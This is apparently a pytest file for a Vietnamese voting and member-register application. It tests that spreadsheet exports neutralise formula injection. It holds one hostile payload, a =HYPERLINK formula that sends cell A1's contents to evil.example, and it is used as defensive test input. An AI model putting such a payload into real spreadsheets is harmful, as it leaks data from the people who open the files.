"""A hostile name imported in a roster, the member register or a count sheet comes out of every
export as its literal text (a string cell beginning with the neutralising quote), never as a
formula; and our own exports import back unchanged."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.cell.cell import Cell
from tests.evaluations.conftest import client_for, hanoi
from tests.evaluations.conftest import org as org  # the fixture

from tinnhiem.bodies.models import Body, Person
from tinnhiem.bodies.roster import RosterKind, read_roster
from tinnhiem.bodies.services import roster_export, roster_import
from tinnhiem.cli.tally import main as tally
from tinnhiem.evaluations import services as evaluations
from tinnhiem.evaluations import structure
from tinnhiem.members import exchange
from tinnhiem.members.models import MemberRecord, RegisterExport
from tinnhiem.members.register import read_register
from tinnhiem.votes import counting, services
from tinnhiem.votes.models import CountMode

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
PHONE = "+84 912 345 678"


def csv_of(rows: list[list[str]]) -> bytes:
    """A file as an attacker writes it: plain CSV, nothing neutralised."""
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode("utf-8")


def cells_of(content: bytes) -> list[Cell]:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_literal(content: bytes, text: str = HOSTILE) -> None:
    """The text is in the file only as a string cell starting with the quote; no formula."""
    found = [c for c in cells_of(content) if isinstance(c.value, str) and text in c.value]
    assert found, f"{text!r} is not in the file"
    assert all((c.data_type, c.value) == ("s", "'" + text) for c in found), [
        (c.coordinate, c.data_type, c.value) for c in found
    ]
    assert not [c for c in cells_of(content) if c.data_type == "f"]


def import_officials(body: Body, actor: Any, *names: str) -> None:
    rows = [["Họ và tên", "Chức vụ"], *([name, f"Ủy viên {i}"] for i, name in enumerate(names))]
    roster_import(
        actor=actor, body=body, kind=RosterKind.OFFICIALS, file_name="ds.csv", content=csv_of(rows)
    )


def test_both_roster_exports(body: Body, users: dict[str, Any]) -> None:
    client = Client()
    client.force_login(users["organiser"])
    import_officials(body, users["organiser"], HOSTILE, "Nguyễn Thị Lệ")
    voters = csv_of([["Họ và tên", "Chức vụ, đơn vị"], [HOSTILE, "-Sở Tư pháp"]])
    roster_import(
        actor=users["organiser"],
        body=body,
        kind=RosterKind.VOTERS,
        file_name="v.csv",
        content=voters,
    )
    for kind in ("officials", "voters"):
        response = client.get(reverse("roster_export", args=[body.pk, kind]))
        assert response.status_code == 200
        assert_literal(response.content)
    assert_literal(roster_export(body=body, kind=RosterKind.VOTERS), "-Sở Tư pháp")


def test_a_roster_export_imports_back_unchanged(body: Body, users: dict[str, Any]) -> None:
    import_officials(body, users["organiser"], HOSTILE, "'Ngọc", "@Lan", "Nguyễn Thị Lệ")
    exported = roster_export(body=body, kind=RosterKind.OFFICIALS)
    again = read_roster(RosterKind.OFFICIALS, "export.xlsx", exported)
    assert not again.has_errors
    assert [row.values["name"] for row in again.rows] == [HOSTILE, "'Ngọc", "@Lan", "Nguyễn Thị Lệ"]


def test_the_member_export_and_its_import_back(
    body: Body,
    other_body: Body,
    users: dict[str, Any],
    make_user: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    header = ["Họ và tên đang dùng", "Giới tính", "Ngày vào Đảng", "Chi bộ", "Số điện thoại"]
    rows = [header, [HOSTILE, "Nam", "19/05/2015", "+Chi bộ 1", PHONE]]
    exchange.member_import(
        actor=users["organiser"], body=body, file_name="so.csv", content=csv_of(rows)
    )
    client = Client()
    client.force_login(users["organiser"])
    with django_capture_on_commit_callbacks(execute=True):  # the worker makes the file
        client.post(reverse("members:export", args=[body.pk]))
    response = client.get(
        reverse("members:export_download", args=[RegisterExport.objects.get().pk])
    )
    assert response.status_code == 200
    content = b"".join(response.streaming_content)  # streamed: a register may be 500,000 rows
    assert_literal(content)
    assert_literal(content, "+Chi bộ 1")
    stored = MemberRecord.objects.get(body=body)
    again = read_register("export.xlsx", content, today=date(2026, 1, 1))
    assert not again.has_errors, [p.message_en for r in again.rows for p in r.problems]
    (row,) = again.rows
    assert row.values["full_name"] == stored.full_name == HOSTILE
    assert row.values["phone"] == stored.phone == "+84912345678"
    assert row.values["unit"] == "+Chi bộ 1"


def test_the_evaluations_dashboard_report(org: SimpleNamespace) -> None:
    import_officials(org.body, org.organiser, HOSTILE)
    person = Person.objects.get(body=org.body, full_name=HOSTILE)
    cadre = structure.cadre_save(
        actor=org.organiser, person=person, unit=org.unit, manager=org.manager, group="+Nhóm"
    )
    for each, total in zip([*org.cadres, cadre], [85, 80, 75, 70, 60, 72], strict=True):
        evaluation = evaluations.evaluation_self_assess(
            actor=org.organiser, cadre=each, period=org.period, scores=hanoi(total)
        )
        evaluations.evaluation_submit(actor=org.organiser, evaluation=evaluation)
        reviewer = org.users["head"] if each.manager_id == org.head.pk else org.users["manager"]
        evaluations.evaluation_review(actor=reviewer, evaluation=evaluation, scores=hanoi(total))
    evaluations.unit_approve(actor=org.users["head"], period=org.period, unit=org.unit, keep=None)
    response = client_for(org.organiser).get(
        reverse("evaluations:dashboard_xlsx", args=[org.body.pk]) + "?year=2026"
    )
    assert response.status_code == 200
    assert_literal(response.content)
    assert_literal(response.content, "+Nhóm")


def test_results_xlsx(body: Body, users: dict[str, Any]) -> None:
    import_officials(body, users["organiser"], HOSTILE, "Nguyễn Thị Lệ")
    session = services.session_create(
        actor=users["organiser"],
        body=body,
        title="-Lấy phiếu",
        held_on=date(2026, 3, 1),
        profile_key="nq96",
        count_mode=CountMode.AGGREGATE,
    )
    services.candidates_from_roster(actor=users["organiser"], session=session)
    session = services.session_open(actor=users["organiser"], session=session)
    services.figures_set(
        actor=users["organiser"], session=session, members=10, issued=10, collected=10
    )
    session = services.counting_start(actor=users["board1"], session=session)
    rows = {c.pk: ({"high": 8, "confidence": 1, "low": 1}, 0) for c in session.candidates.all()}
    counting.aggregate_record(actor=users["board1"], session=session, rows=rows)
    counting.count_close(actor=users["board1"], session=session)
    client = Client()
    client.force_login(users["organiser"])
    response = client.get(reverse("document", args=[session.pk, "results", "xlsx"]))
    assert response.status_code == 200
    assert_literal(response.content)  # on both sheets: results and ranking
    assert_literal(response.content, "-Lấy phiếu")


def test_tally_format_xlsx(tmp_path: Path) -> None:
    counts = tmp_path / "counts.csv"
    counts.write_bytes(
        csv_of(
            [
                ["Họ và tên", "Chức vụ", "Tín nhiệm cao", "Tín nhiệm", "Tín nhiệm thấp"],
                [HOSTILE, "@Chủ tịch", "8", "1", "1"],
            ]
        )
    )
    out = tmp_path / "results.xlsx"
    args = [str(counts), "--rules", "nq96", "--collected", "10", "--format", "xlsx"]
    assert tally([*args, "--out", str(out)]) == 0
    assert_literal(out.read_bytes())
    assert_literal(out.read_bytes(), "@Chủ tịch")
